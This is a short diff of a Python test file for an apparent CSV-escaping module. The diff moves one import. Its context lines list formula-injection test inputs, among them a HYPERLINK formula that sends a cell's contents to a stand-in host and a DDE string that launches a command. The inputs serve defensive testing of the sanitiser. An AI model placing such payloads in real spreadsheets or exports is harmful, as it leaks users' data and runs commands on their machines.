@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from eraser.cells import as_csv, quoted, unquoted
+from eraser.files.cells import as_csv, quoted, unquoted
 
 LINK = '=HYPERLINK("http://evil.example/"&A1,"x")'
 RUN = (LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", " =1+1", "＝1+1", "-1-1")
